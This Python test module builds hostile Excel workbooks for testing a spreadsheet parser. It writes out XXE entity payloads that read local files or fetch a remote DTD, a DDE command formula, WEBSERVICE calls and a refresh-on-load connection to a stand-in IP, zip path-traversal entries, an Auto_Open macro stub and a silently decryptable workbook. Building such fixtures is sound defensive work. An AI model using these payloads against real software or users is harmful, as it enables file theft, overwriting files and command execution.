"""Workbooks that ask whoever reads them to open another file, to fetch something, or to run a macro."""

import io
import random
from collections.abc import Callable
from pathlib import Path

from msoffcrypto.format.ooxml import OOXMLFile
from sheet_files import RELATIONS, text_row, xlsx

ROWS = text_row(1, "Vorname", "Nachname") + text_row(2, "Zoë", "Müßig")
PHOTO = random.Random(1).randbytes(10_000)
ELSEWHERE = "http://203.0.113.7/picture.png"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _outside(kind: str, target: str) -> str:
    return RELATIONS.format(kind=kind, target=target).replace("/></Rel", ' TargetMode="External"/></Rel')


def _entities(target: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY % all SYSTEM "{target}"> %all; <!ENTITY one SYSTEM "{target}">]>'


def _strings(target: str, encoding: str) -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{_entities(target)}<sst {_MAIN}><si><t>&one;</t></si></sst>'
    return text.encode(encoding)


def linked_workbook(secret: Path, more: dict[str, bytes] | None = None) -> bytes:
    cell = '<row r="3"><c r="A3"><f>\'[1]Form\'!A1</f><v>1</v></c></row>'
    book = f'<externalLink {_MAIN} {_R}><externalBook r:id="rId1"/></externalLink>'
    parts = {
        "xl/externalLinks/externalLink1.xml": book,
        "xl/externalLinks/_rels/externalLink1.xml.rels": _outside("externalLinkPath", secret.as_uri()),
    }
    return xlsx(ROWS + cell, parts={**parts, **(more or {})})


def picture_by_address(_secret: Path) -> bytes:
    parts = {
        "xl/drawings/drawing1.xml": f'<wsDr {_R}><pic><blip r:link="rId1"/></pic></wsDr>',
        "xl/drawings/_rels/drawing1.xml.rels": _outside("image", ELSEWHERE),
        "xl/worksheets/_rels/sheet1.xml.rels": RELATIONS.format(kind="drawing", target="../drawings/drawing1.xml"),
    }
    return xlsx(ROWS, parts=parts)


def fetching_formulas(secret: Path) -> bytes:
    formulas = (f'WEBSERVICE("{ELSEWHERE}")', f'HYPERLINK("{secret.as_uri()}")', "cmd|'/c calc'!A1")
    cells = "".join(
        f'<c r="{letter}3"><f>{formula}</f><v>0</v></c>' for letter, formula in zip("ABC", formulas, strict=True)
    )
    web = f'<connections {_MAIN}><connection id="1" refreshOnLoad="1"><webPr url="{ELSEWHERE}"/></connection>'
    return xlsx(f'{ROWS}<row r="3">{cells}</row>', parts={"xl/connections.xml": f"{web}</connections>"})


def entities_in_strings(secret: Path) -> bytes:
    return xlsx(ROWS, parts={"xl/sharedStrings.xml": _strings(secret.as_uri(), "utf-8")})


def entities_in_utf16(secret: Path) -> bytes:
    return xlsx(ROWS, parts={"xl/sharedStrings.xml": _strings(secret.as_uri(), "utf-16")})


def entities_in_sheet(secret: Path) -> bytes:
    return xlsx(ROWS, before=_entities(secret.as_uri()))


def entities_by_address(_secret: Path) -> bytes:
    return xlsx(ROWS, before=_entities("http://203.0.113.7/all.dtd"))


def entities_in_styles(secret: Path) -> bytes:
    styles = f'<?xml version="1.0"?>{_entities(secret.as_uri())}<styleSheet {_MAIN}/>'
    return xlsx(ROWS, parts={"xl/styles.xml": styles})


def entities_in_schema(secret: Path) -> bytes:
    """A part that no reader of cells opens: the rows are read all the same."""
    parts = {"xl/xmlMaps.xml": f'<?xml version="1.0"?>{_entities(secret.as_uri())}<MapInfo>&one;</MapInfo>'}
    return xlsx(ROWS, parts=parts)


def macro_workbook(_secret: Path) -> bytes:
    names = f'<definedNames {_MAIN}><definedName name="Auto_Open">Form!$A$1</definedName></definedNames>'
    parts = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub Workbook_Open()", "xl/names.xml": names}
    return xlsx(ROWS, parts=parts)


def part_with_a_path(secret: Path) -> bytes:
    return xlsx(ROWS, parts={f"../../../..{secret}": b"overwritten", str(secret): b"overwritten"})


def in_utf16(_secret: Path) -> bytes:
    """What the fast reader does not understand goes to the slow one."""
    sheet = f'<?xml version="1.0" encoding="UTF-16"?><worksheet {_MAIN}><sheetData>{ROWS}</sheetData></worksheet>'
    return xlsx("", parts={"xl/worksheets/sheet1.xml": sheet.encode("utf-16")})


def locked_without_a_question(secret: Path) -> bytes:
    """Encrypted with the key that Excel tries in silence; the library for it needs more than a few bytes."""
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(linked_workbook(secret, {"xl/media/photo.jpg": PHOTO}))).encrypt("VelvetSweatshop", out)
    return out.getvalue()


TRAPS: tuple[Callable[[Path], bytes], ...] = (
    *(linked_workbook, picture_by_address, fetching_formulas, entities_in_strings, entities_in_utf16),
    *(entities_in_sheet, entities_by_address, entities_in_styles, entities_in_schema, macro_workbook),
    *(part_with_a_path, in_utf16, locked_without_a_question),
)
